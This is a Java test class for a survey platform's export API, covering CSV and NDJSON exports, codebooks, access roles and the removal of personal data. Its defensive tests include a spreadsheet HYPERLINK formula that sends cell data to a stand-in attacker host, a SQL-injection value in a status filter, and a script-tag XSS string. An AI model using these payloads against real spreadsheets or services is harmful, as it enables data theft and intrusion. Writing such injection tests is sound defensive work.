package io.canvass.export;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.canvass.access.Tokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

@QuarkusTest
class ExportTest {

    private static final String SURVEY = "test-export";
    private static final String RESPONSES = "/api/surveys/" + SURVEY + "/responses";
    private static final String CODEBOOK = "/api/surveys/" + SURVEY + "/codebook";
    private static final String EMAIL = "ceo.export@example.com";
    private static final ObjectMapper JSON = new ObjectMapper();

    private static final List<String> HEADER = List.of("response_id", "status", "version", "submitted_at", "flags",
            "review_reason", "language", "eligible", "uses_ai", "blockers.cost", "blockers.privacy", "blockers.other", "blockers.none",
            "blockers.other.text", "priority", "use_today.marketing", "use_today.sales", "comments");

    /** Answers to the test survey: a complete, eligible respondent who uses AI; changed per test. */
    private static Map<String, Object> answers() {
        Map<String, Object> a = new LinkedHashMap<>();
        a.put("eligible", "yes");
        a.put("uses_ai", "yes");
        a.put("blockers", List.of("cost", "other"));
        a.put("blockers.other", "Vendor lock-in, \"mostly\"");
        a.put("priority", 4);
        a.put("use_today", Map.of("marketing", "limited", "sales", "wide"));
        a.put("comments", "Fine, thanks.");
        a.put("report_copy_email", EMAIL);
        return a;
    }

    private static String submit(String survey, Map<String, Object> answers, String expectedStatus) {
        return given().contentType(ContentType.JSON).body(Map.of("answers", answers))
                .when().post("/api/surveys/" + survey + "/responses")
                .then().statusCode(201).body("status", equalTo(expectedStatus)).extract().path("id");
    }

    private static Response csv(String query) {
        return given().auth().oauth2(Tokens.researcher()).accept("text/csv").when().get(RESPONSES + query);
    }

    private static Map<String, CSVRecord> rowsById(String body) throws IOException {
        Map<String, CSVRecord> rows = new LinkedHashMap<>();
        try (CSVParser parser = CSVParser.parse(new StringReader(body),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            assertEquals(HEADER, parser.getHeaderNames());
            for (CSVRecord record : parser) {
                rows.put(record.get("response_id"), record);
            }
        }
        return rows;
    }

    @Test
    void csvHasOneRowPerCompleteWithAColumnPerAnswer() throws IOException {
        Map<String, Object> given = answers();
        given.put("comments", "Zürich, “curly” and \"straight\" quotes,\nsecond line\r\nthird — 東京 'ok'");
        String full = submit(SURVEY, given, "complete");
        Map<String, Object> noAi = answers();
        noAi.put("uses_ai", "no");
        noAi.remove("blockers");
        noAi.remove("blockers.other");
        noAi.remove("comments");
        String notShown = submit(SURVEY, noAi, "complete");

        Response response = csv("");
        response.then().statusCode(200)
                .contentType(containsString("text/csv"))
                .header("Content-Disposition", "attachment; filename=\"test-export-responses.csv\"");
        assertTrue(response.contentType().toLowerCase().contains("charset=utf-8"), response.contentType());
        Map<String, CSVRecord> rows = rowsById(response.asString());

        CSVRecord row = rows.get(full);
        assertEquals("complete", row.get("status"));
        assertEquals("1", row.get("version"));
        assertNotNull(java.time.Instant.parse(row.get("submitted_at")));
        assertEquals("yes", row.get("eligible"));
        assertEquals("1", row.get("blockers.cost"));
        assertEquals("0", row.get("blockers.privacy"));
        assertEquals("1", row.get("blockers.other"));
        assertEquals("0", row.get("blockers.none"));
        assertEquals("Vendor lock-in, \"mostly\"", row.get("blockers.other.text"));
        assertEquals("4", row.get("priority"));
        assertEquals("limited", row.get("use_today.marketing"));
        assertEquals("wide", row.get("use_today.sales"));
        assertEquals(given.get("comments"), row.get("comments"));

        CSVRecord skipped = rows.get(notShown);
        assertEquals("no", skipped.get("uses_ai"));
        for (String column : List.of("blockers.cost", "blockers.privacy", "blockers.other", "blockers.none",
                "blockers.other.text", "comments")) {
            assertEquals("", skipped.get(column), column + " of a respondent who was not asked it");
        }
        assertTrue(response.asString().contains("\r\n"), "RFC 4180 line ends");
    }

    @Test
    void formulaCellsAreNeutralisedAndQuoted() throws IOException {
        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+2", "-2+3",
                "@SUM(A1:A9)", "\tleading tab", "\rleading CR");
        Map<String, String> idByFormula = new LinkedHashMap<>();
        for (String formula : formulas) {
            Map<String, Object> a = answers();
            a.put("comments", formula);
            a.put("blockers.other", formula);
            idByFormula.put(formula, submit(SURVEY, a, "complete"));
        }
        String body = csv("").then().statusCode(200).extract().asString();
        Map<String, CSVRecord> rows = rowsById(body);
        for (Map.Entry<String, String> case_ : idByFormula.entrySet()) {
            CSVRecord row = rows.get(case_.getValue());
            assertEquals("'" + case_.getKey(), row.get("comments"));
            assertEquals("'" + case_.getKey(), row.get("blockers.other.text"));
        }
        assertTrue(body.contains(",\"'+1+2\""), "a neutralised cell is quoted");
        assertTrue(body.contains(",\"'@SUM(A1:A9)\""), "a neutralised cell is quoted");
        assertFalse(body.contains(",=") || body.contains(",+") || body.contains(",@") || body.contains(",-"),
                "no cell starts with a formula character");
    }

    @Test
    void statusFilterSelectsWhichResponsesAreExported() throws IOException {
        String complete = submit(SURVEY, answers(), "complete");
        String screenedOut = submit(SURVEY, Map.of("eligible", "no", "uses_ai", "yes"), "screened_out");

        Map<String, CSVRecord> byDefault = rowsById(csv("").then().statusCode(200).extract().asString());
        assertTrue(byDefault.containsKey(complete));
        assertFalse(byDefault.containsKey(screenedOut));
        assertTrue(byDefault.values().stream().allMatch(r -> r.get("status").equals("complete")));

        Map<String, CSVRecord> onlyScreenedOut = rowsById(csv("?status=screened_out").then().statusCode(200).extract().asString());
        assertFalse(onlyScreenedOut.containsKey(complete));
        CSVRecord row = onlyScreenedOut.get(screenedOut);
        assertEquals("screened_out", row.get("status"));
        assertEquals("no", row.get("eligible"));
        // The respondent never reached the page of blockers: not 0, but empty.
        assertEquals("", row.get("blockers.cost"));
        assertEquals("", row.get("priority"));

        for (String query : List.of("?status=complete,screened_out", "?status=complete&status=screened_out")) {
            Map<String, CSVRecord> both = rowsById(csv(query).then().statusCode(200).extract().asString());
            assertTrue(both.containsKey(complete) && both.containsKey(screenedOut), query);
        }
    }

    @Test
    void rowsAreInSubmissionOrder() throws IOException {
        String first = submit(SURVEY, answers(), "complete");
        String second = submit(SURVEY, answers(), "complete");
        List<String> order = new ArrayList<>(rowsById(csv("").then().statusCode(200).extract().asString()).keySet());
        assertTrue(order.indexOf(first) < order.indexOf(second), order.toString());
        List<String> submittedAt = new ArrayList<>();
        rowsById(csv("").asString()).values().forEach(r -> submittedAt.add(r.get("submitted_at")));
        List<java.time.Instant> times = submittedAt.stream().map(java.time.Instant::parse).toList();
        assertEquals(times.stream().sorted().toList(), times);
    }

    @Test
    void badRequestsAreProblems() {
        given().auth().oauth2(Tokens.researcher()).accept("text/csv").when().get(RESPONSES + "?status=done")
                .then().statusCode(400).contentType("application/problem+json")
                .body("type", equalTo("urn:canvass:problem:invalid-status-filter"))
                .body("errors[0].field", equalTo("status"));
        given().auth().oauth2(Tokens.researcher()).accept("text/csv").when().get(RESPONSES + "?status=complete,%27%20OR%201=1--")
                .then().statusCode(400).contentType("application/problem+json");
        given().auth().oauth2(Tokens.researcher()).accept("text/csv").when().get("/api/surveys/no-such-survey/responses")
                .then().statusCode(404).contentType("application/problem+json");
        given().auth().oauth2(Tokens.analyst()).accept(ContentType.JSON).when().get("/api/surveys/no-such-survey/codebook")
                .then().statusCode(404).contentType("application/problem+json");
        given().auth().oauth2(Tokens.researcher()).accept("application/xml").when().get(RESPONSES)
                .then().statusCode(406).contentType("application/problem+json");
        given().auth().oauth2(Tokens.analyst()).accept("application/xml").when().get(CODEBOOK)
                .then().statusCode(406).contentType("application/problem+json");
    }

    @Test
    void ndjsonHasOneObjectPerResponseWithTheAnswersAsSubmitted() throws IOException {
        Map<String, Object> submitted = answers();
        submitted.put("comments", "Line one\nline two, \"quoted\" – ü");
        String id = submit(SURVEY, submitted, "complete");
        String screenedOut = submit(SURVEY, Map.of("eligible", "no", "uses_ai", "no"), "screened_out");

        Response response = given().auth().oauth2(Tokens.researcher()).accept("application/x-ndjson")
                .when().get(RESPONSES + "?status=complete,screened_out");
        response.then().statusCode(200).contentType(containsString("application/x-ndjson"));
        Map<String, JsonNode> byId = new LinkedHashMap<>();
        for (String line : response.asString().split("\n")) {
            JsonNode object = JSON.readTree(line);
            byId.put(object.get("response_id").asText(), object);
        }
        assertTrue(response.asString().endsWith("\n"));

        JsonNode line = byId.get(id);
        assertEquals("complete", line.get("status").asText());
        assertEquals(1, line.get("version").asInt());
        assertNotNull(java.time.Instant.parse(line.get("submitted_at").asText()));
        assertNull(line.get("reason"));
        Map<String, Object> expected = new LinkedHashMap<>(submitted);
        expected.remove("report_copy_email");
        assertEquals(JSON.valueToTree(expected), line.get("answers"));

        JsonNode out = byId.get(screenedOut);
        assertEquals("screened_out", out.get("status").asText());
        assertEquals("eligible", out.get("reason").asText());
    }

    @Test
    void noPersonalDataLeavesInAnyExport() {
        submit(SURVEY, answers(), "complete");
        String csv = csv("?status=complete,screened_out,quota_full,in_progress").then().statusCode(200).extract().asString();
        String ndjson = given().auth().oauth2(Tokens.researcher()).accept("application/x-ndjson")
                .when().get(RESPONSES + "?status=complete,screened_out,quota_full,in_progress").then().statusCode(200)
                .extract().asString();
        String codebook = given().auth().oauth2(Tokens.analyst()).accept(ContentType.JSON).when().get(CODEBOOK)
                .then().statusCode(200).extract().asString();
        String page = given().auth().oauth2(Tokens.analyst()).accept(ContentType.HTML).when().get(CODEBOOK)
                .then().statusCode(200).extract().asString();
        for (String export : List.of(csv, ndjson, codebook, page)) {
            assertFalse(export.contains(EMAIL), "the e-mail address is exported");
            assertFalse(export.contains("report_copy_email"), "the e-mail question is exported");
            assertFalse(export.contains("E-mail for a copy"), "the e-mail question is exported");
        }
    }

    @Test
    void codebookDescribesExactlyTheCsvColumns() throws IOException {
        JsonNode codebook = JSON.readTree(given().auth().oauth2(Tokens.researcher()).accept(ContentType.JSON)
                .when().get(CODEBOOK).then().statusCode(200).contentType(ContentType.JSON).extract().asString());
        assertEquals(SURVEY, codebook.get("surveyId").asText());
        assertEquals(1, codebook.get("version").asInt());
        List<String> columns = new ArrayList<>();
        Map<String, JsonNode> byColumn = new LinkedHashMap<>();
        codebook.get("columns").forEach(c -> {
            columns.add(c.get("column").asText());
            byColumn.put(c.get("column").asText(), c);
        });
        String header = csv("").then().statusCode(200).extract().asString().split("\r\n")[0];
        assertEquals(String.join(",", columns), header);
        assertEquals(HEADER, columns);

        JsonNode cost = byColumn.get("blockers.cost");
        assertEquals("blockers", cost.get("questionId").asText());
        assertEquals("multiple", cost.get("type").asText());
        assertEquals("cost", cost.get("option").asText());
        assertEquals("What holds you back?", cost.get("text").asText());
        assertEquals(JSON.readTree("[{\"code\":\"0\",\"label\":\"Not chosen\"},{\"code\":\"1\",\"label\":\"Chosen\"}]"),
                cost.get("values"));
        assertEquals("specify", byColumn.get("blockers.other.text").get("type").asText());
        assertEquals("Low", byColumn.get("priority").get("values").get(0).get("label").asText());
        assertEquals("Widespread", byColumn.get("use_today.sales").get("values").get(2).get("label").asText());
        assertEquals("sales", byColumn.get("use_today.sales").get("row").asText());
        assertEquals("Screened out", byColumn.get("status").get("values").get(1).get("label").asText());
    }

    @Test
    void codebookPageEscapesQuestionTexts() {
        String page = given().auth().oauth2(Tokens.analyst()).accept(ContentType.HTML).when().get(CODEBOOK)
                .then().statusCode(200).contentType(containsString("text/html"))
                .body(containsString("blockers.other.text"))
                .body(containsString("Privacy &amp; &quot;security&quot;"))
                .body(not(containsString("<script>alert")))
                .body(not(containsString("<b>test</b>")))
                .extract().asString();
        assertTrue(page.contains("&lt;script&gt;alert(&#39;codebook&#39;)&lt;/script&gt;")
                || page.contains("&lt;script&gt;alert(&#x27;codebook&#x27;)&lt;/script&gt;"), page);
        assertFalse(page.contains("<style"), "no inline style");
        assertFalse(page.contains(" style="), "no inline style");
    }

    @Test
    void rowExportsAreTheResearchersAndTheCodebookIsForAnalystsToo() {
        for (String accept : List.of("text/csv", "application/x-ndjson")) {
            given().accept(accept).when().get(RESPONSES).then().statusCode(401).contentType("application/problem+json");
            given().auth().oauth2(Tokens.noRole()).accept(accept).when().get(RESPONSES)
                    .then().statusCode(403).contentType("application/problem+json");
            given().auth().oauth2(Tokens.analyst()).accept(accept).when().get(RESPONSES)
                    .then().statusCode(403).contentType("application/problem+json");
            given().auth().oauth2(Tokens.researcher()).accept(accept).when().get(RESPONSES).then().statusCode(200);
        }
        for (String accept : List.of("application/json", "text/html")) {
            given().accept(accept).when().get(CODEBOOK).then().statusCode(401).contentType("application/problem+json");
            given().auth().oauth2(Tokens.noRole()).accept(accept).when().get(CODEBOOK)
                    .then().statusCode(403).contentType("application/problem+json");
            given().auth().oauth2(Tokens.analyst()).accept(accept).when().get(CODEBOOK).then().statusCode(200);
            given().auth().oauth2(Tokens.researcher()).accept(accept).when().get(CODEBOOK).then().statusCode(200);
        }
    }

    @Test
    void olderVersionsMapOntoTheCurrentColumnsByQuestionAndCode() throws IOException {
        String survey = "test-export-versions";
        String v1 = submit(survey, Map.of("tools", List.of("b"), "level", "high"), "complete");
        String version2 = """
                {"id": "test-export-versions", "title": "Export across versions", "anonymity": "identified",
                 "pages": [{"id": "only",
                 "title": "Only", "questions": [
                  {"id": "tools", "type": "multiple", "text": "Which tools?", "options": [
                    {"code": "a", "label": "A"}, {"code": "b", "label": "B"}, {"code": "c", "label": "C"}]},
                  {"id": "level", "type": "single", "text": "Which level?", "options": [
                    {"code": "low", "label": "Low"}, {"code": "high", "label": "High"}]},
                  {"id": "extra", "type": "text", "text": "Anything else?", "required": false}]}]}""";
        given().auth().oauth2(Tokens.researcher()).contentType(ContentType.JSON).body(version2)
                .when().put("/api/surveys/" + survey + "/draft").then().statusCode(200);
        given().auth().oauth2(Tokens.researcher()).contentType(ContentType.JSON).when().post("/api/surveys/" + survey + "/publish").then().statusCode(200);
        String v2 = submit(survey, Map.of("tools", List.of("a", "c"), "level", "low", "extra", "New"), "complete");

        String body = given().auth().oauth2(Tokens.researcher()).accept("text/csv")
                .when().get("/api/surveys/" + survey + "/responses").then().statusCode(200).extract().asString();
        Map<String, CSVRecord> rows = new LinkedHashMap<>();
        try (CSVParser parser = CSVParser.parse(new StringReader(body),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            assertEquals(List.of("response_id", "status", "version", "submitted_at", "flags", "review_reason", "language", "tools.a",
                    "tools.b", "tools.c", "level", "extra"), parser.getHeaderNames());
            parser.forEach(r -> rows.put(r.get("response_id"), r));
        }
        CSVRecord old = rows.get(v1);
        assertEquals("1", old.get("version"));
        assertEquals(List.of("0", "1", "", "high", ""),
                List.of(old.get("tools.a"), old.get("tools.b"), old.get("tools.c"), old.get("level"), old.get("extra")));
        CSVRecord current = rows.get(v2);
        assertEquals("2", current.get("version"));
        assertEquals(List.of("1", "0", "1", "low", "New"),
                List.of(current.get("tools.a"), current.get("tools.b"), current.get("tools.c"), current.get("level"),
                        current.get("extra")));
    }
}
